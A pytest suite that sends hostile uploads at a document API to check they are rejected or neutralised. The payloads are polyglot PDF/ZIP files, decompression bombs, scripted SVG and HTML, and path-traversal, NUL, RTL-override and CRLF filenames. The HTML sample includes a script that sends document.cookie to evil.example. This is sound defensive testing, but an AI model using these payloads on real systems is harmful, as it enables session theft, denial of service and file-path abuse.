"""An upload attack corpus, generated here, against POST /api/v1/cases/{id}/documents.

Each attack is either rejected with a problem response (and then nothing is stored: no row,
no audit event, no object) or neutralised (a safe filename, served as an attachment with
nosniff). A lying Content-Length is sent over a real socket to a real uvicorn.
"""

from __future__ import annotations

import asyncio
import io
import socket
import struct
import zipfile
from pathlib import Path

import httpx
import pytest
import uvicorn
from sqlalchemy import func, select

from eakte.app import create_app
from eakte.audit.models import AuditEvent
from eakte.documents.models import Document, DocumentVersion
from storage import ObjectStore
from support import TENANT_A, minimal_pdf, png_image

PROBLEM = "urn:eakte:problem:"


# -- the corpus -------------------------------------------------------------------------


def pdf() -> bytes:
    """A minimal valid one-page PDF."""
    return minimal_pdf()


def png(*, comment: bytes | None = None) -> bytes:
    """A valid 2x2 PNG, optionally with a tEXt comment chunk."""
    return png_image(comment=comment)


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JFIF header followed by a COM segment."""
    jfif = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return jfif + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + bytes(64)


def zip_archive(entries: dict[str, bytes], *, compress: bool = True) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a ZIP archive (an HTML page) appended: opens as both."""
    return pdf() + zip_archive({"index.html": b"<html><script>alert(1)</script></html>"})


def zip_pdf_polyglot() -> bytes:
    """A ZIP archive whose first entry is stored and whose bytes start like a PDF."""
    return b"%PDF-1.4\n" + zip_archive({"x.html": b"<script>alert(1)</script>"})


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/content-types"><Override PartName="/word/document.xml" ContentType="'
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main"
    b'+xml"/></Types>'
)


def docx_bomb(size: int = 200 * 1024 * 1024) -> bytes:
    """A Word document whose document.xml inflates to `size` bytes of zeros (~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        with archive.open("word/document.xml", "w", force_zip64=False) as member:
            block = bytes(1024 * 1024)
            for _ in range(size // len(block)):
                member.write(block)
    return buffer.getvalue()


def plain_zip_bomb() -> bytes:
    """A classic bomb (no Office structure at all), named .docx."""
    return zip_archive({"bomb.bin": bytes(50 * 1024 * 1024)})


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>\n"
    )


HTML = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"


def multipart(
    file_content: bytes,
    filename: str | bytes,
    *,
    boundary: str = "eakte-attack-b0undary",
    fields: tuple[tuple[str, str], ...] = (("title", "Lageplan"), ("kind", "lageplan")),
) -> tuple[bytes, str]:
    """A multipart body whose filename goes on the wire byte for byte (no escaping)."""
    raw_name = filename.encode() if isinstance(filename, str) else filename
    out = bytearray()
    for name, value in fields:
        out += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        out += value.encode() + b"\r\n"
    out += f"--{boundary}\r\n".encode()
    out += b'Content-Disposition: form-data; name="file"; filename="' + raw_name + b'"\r\n'
    out += b"Content-Type: application/octet-stream\r\n\r\n" + file_content + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return bytes(out), f"multipart/form-data; boundary={boundary}"


# -- helpers ----------------------------------------------------------------------------


def object_names(store: ObjectStore) -> list[str]:
    """Every object in the store, temp files included."""
    root = Path(getattr(store, "root"))  # noqa: B009 - FilesystemStore
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


async def stored_counts(db) -> tuple[int, int, int]:  # type: ignore[no-untyped-def]
    async with db.session(write=False) as session:
        documents = await session.scalar(select(func.count()).select_from(Document))
        versions = await session.scalar(select(func.count()).select_from(DocumentVersion))
        events = await session.scalar(
            select(func.count()).select_from(AuditEvent).where(AuditEvent.action.like("document.%"))
        )
    return int(documents or 0), int(versions or 0), int(events or 0)


async def assert_nothing_stored(db, store: ObjectStore) -> None:  # type: ignore[no-untyped-def]
    assert await stored_counts(db) == (0, 0, 0)
    assert object_names(store) == []


@pytest.fixture
def store(app) -> ObjectStore:  # type: ignore[no-untyped-def]
    return app.state.store  # type: ignore[no-any-return]


@pytest.fixture
def post_upload(client: httpx.AsyncClient, auth):  # type: ignore[no-untyped-def]
    async def _post(case_id: str, content: bytes, filename: str | bytes) -> httpx.Response:
        body, content_type = multipart(content, filename)
        return await client.post(
            f"/api/v1/cases/{case_id}/documents",
            content=body,
            headers={**auth("clerk", tenant=TENANT_A), "Content-Type": content_type},
        )

    return _post


# -- rejected ---------------------------------------------------------------------------

REJECTED = [
    ("pdf+zip polyglot", pdf_zip_polyglot, "lageplan.pdf", "polyglot-file"),
    ("zip+pdf polyglot", zip_pdf_polyglot, "lageplan.pdf", "polyglot-file"),
    ("html in a png comment", lambda: png(comment=HTML), "ansicht.png", "active-content"),
    ("html in a jpeg comment", lambda: jpeg_with_comment(HTML), "foto.jpg", "active-content"),
    ("svg with script", svg_with_script, "plan.svg", "media-type-not-allowed"),
    ("svg with script as .xml", svg_with_script, "plan.xml", "media-type-not-allowed"),
    ("html as .pdf", lambda: HTML, "lageplan.pdf", "media-type-not-allowed"),
    ("zip bomb as .docx", plain_zip_bomb, "bericht.docx", "media-type-not-allowed"),
    ("docx bomb", docx_bomb, "bericht.docx", "archive-bomb"),
    ("pdf named .pdf NUL .exe", pdf, "lageplan.pdf\x00.exe", "extension-mismatch"),
    ("pdf named with RTL override", pdf, "Lageplan\u202efdp.exe", "extension-mismatch"),
    ("html named with RTL override", lambda: HTML, "plan\u202elmth.pdf", "media-type-not-allowed"),
]


@pytest.mark.parametrize(
    ("make", "filename", "slug"), [r[1:] for r in REJECTED], ids=[r[0] for r in REJECTED]
)
async def test_attacks_are_rejected_and_nothing_is_stored(
    db, store, new_case, post_upload, make, filename: str, slug: str
) -> None:
    case = await new_case()
    response = await post_upload(case["id"], make(), filename)
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"] == PROBLEM + slug, problem
    assert problem["detail"]
    await assert_nothing_stored(db, store)


# -- neutralised ------------------------------------------------------------------------

NEUTRALISED = [
    ("unix path", "../../../etc/cron.d/lageplan.pdf", "lageplan.pdf"),
    ("windows path", "..\\..\\Windows\\System32\\lageplan.pdf", "lageplan.pdf"),
    ("mixed path", "/abs/..\\x/./lageplan.pdf", "lageplan.pdf"),
    ("NUL bytes", "lage\x00plan\x00.pdf", "lageplan.pdf"),
    ("RTL override kept extension", "Plan\u202eA\u202c.pdf", "PlanA.pdf"),
    ("1000-byte name", "ä" * 500 + ".pdf", "ä" * 98 + ".pdf"),
    ("1000-byte name, no extension", "x" * 1000, "x" * 200),
    ("CRLF header injection", "a\r\nX-Evil: 1.pdf", None),
    ("only dots and slashes", "../..//./", "dokument"),
]


@pytest.mark.parametrize(
    ("sent", "stored"), [r[1:] for r in NEUTRALISED], ids=[r[0] for r in NEUTRALISED]
)
async def test_hostile_filenames_are_neutralised(
    db, store, client, auth, new_case, post_upload, sent: str, stored: str | None
) -> None:
    case = await new_case()
    response = await post_upload(case["id"], pdf(), sent)
    if stored is None:  # the multipart parser may refuse a header split by CRLF
        assert response.status_code in (201, 400, 415, 422), response.text
        if response.status_code != 201:
            await assert_nothing_stored(db, store)
            return
    else:
        assert response.status_code == 201, response.text
    name = response.json()["latest_version"]["filename"]
    if stored is not None:
        assert name == stored
    assert len(name.encode()) <= 200
    assert not any(c in name for c in "/\\\x00\r\n\u202e\u202c")
    download = await client.get(
        response.json()["latest_version"]["content_url"], headers=auth("clerk")
    )
    assert download.status_code == 200
    disposition = download.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert not any(c in disposition for c in "/\\\x00\r\n\u202e")
    assert download.headers["x-content-type-options"] == "nosniff"
    assert download.content == pdf()


async def test_ordinary_files_still_pass(db, store, new_case, post_upload) -> None:
    """The content checks do not reject ordinary PNG, PDF and Word files."""
    case = await new_case()
    ok_docx = zip_archive(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "word/document.xml": b"<w:document>" + b"<w:p>Text</w:p>" * 5000 + b"</w:document>",
        }
    )
    for content, filename in (
        (png(comment=b"Created with GIMP"), "ansicht.png"),
        (pdf(), "lageplan.pdf"),
        (ok_docx, "bericht.docx"),
    ):
        response = await post_upload(case["id"], content, filename)
        assert response.status_code == 201, (filename, response.text)


# -- a Content-Length that lies (real server, raw socket) -------------------------------


async def _raw_request(port: int, head: bytes, body: bytes, *, shut: bool) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(head + body)
    await writer.drain()
    if shut:
        writer.transport.write_eof()
    try:
        return await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.mark.parametrize("lie", ["shorter", "longer", "not-a-number", "negative", "two-values"])
async def test_lying_content_length_stores_nothing(db, settings, token, new_case, lie: str) -> None:
    case = await new_case()
    app = create_app(settings.model_copy(update={"tick_interval_seconds": 0}))
    port = _free_port()
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=port, log_level="critical", lifespan="on")
    )
    task = asyncio.create_task(server.serve())
    while not server.started:
        await asyncio.sleep(0.01)
    try:
        body, content_type = multipart(pdf(), "lageplan.pdf")
        declared = {
            "shorter": str(len(body) // 2),
            "longer": str(len(body) + 100_000),
            "not-a-number": "12abc",
            "negative": "-1",
            "two-values": f"{len(body)}, {len(body) + 10}",
        }[lie]
        head = (
            f"POST /api/v1/cases/{case['id']}/documents HTTP/1.1\r\n"
            f"Host: 127.0.0.1\r\nAuthorization: Bearer {token('clerk')}\r\n"
            f"Content-Type: {content_type}\r\nContent-Length: {declared}\r\n"
            "Connection: close\r\n\r\n"
        ).encode()
        answer = await _raw_request(port, head, body, shut=lie == "longer")
        status_line = answer.split(b"\r\n", 1)[0]
        if answer:
            assert b" 201 " not in status_line, answer[:500]
            assert b" 400 " in status_line or b" 413 " in status_line, answer[:500]
        await asyncio.sleep(0.2)
        await assert_nothing_stored(db, app.state.store)
    finally:
        server.should_exit = True
        await asyncio.wait_for(task, 15)
        await app.state.db.dispose()


async def test_attacks_on_a_new_version_change_nothing(
    db, store, client, auth, new_case, post_upload
) -> None:
    """The version route shares the receiver: a polyglot or bomb as version 2 is refused."""
    case = await new_case()
    first = await post_upload(case["id"], pdf(), "lageplan.pdf")
    assert first.status_code == 201
    before = (await stored_counts(db), object_names(store))
    for content, filename in ((pdf_zip_polyglot(), "lageplan.pdf"), (docx_bomb(), "x.docx")):
        body, content_type = multipart(content, filename, fields=(("comment", "v2"),))
        response = await client.post(
            f"/api/v1/cases/{case['id']}/documents/{first.json()['id']}/versions",
            content=body,
            headers={**auth("clerk"), "Content-Type": content_type},
        )
        assert response.status_code == 415, response.text
    assert (await stored_counts(db), object_names(store)) == before
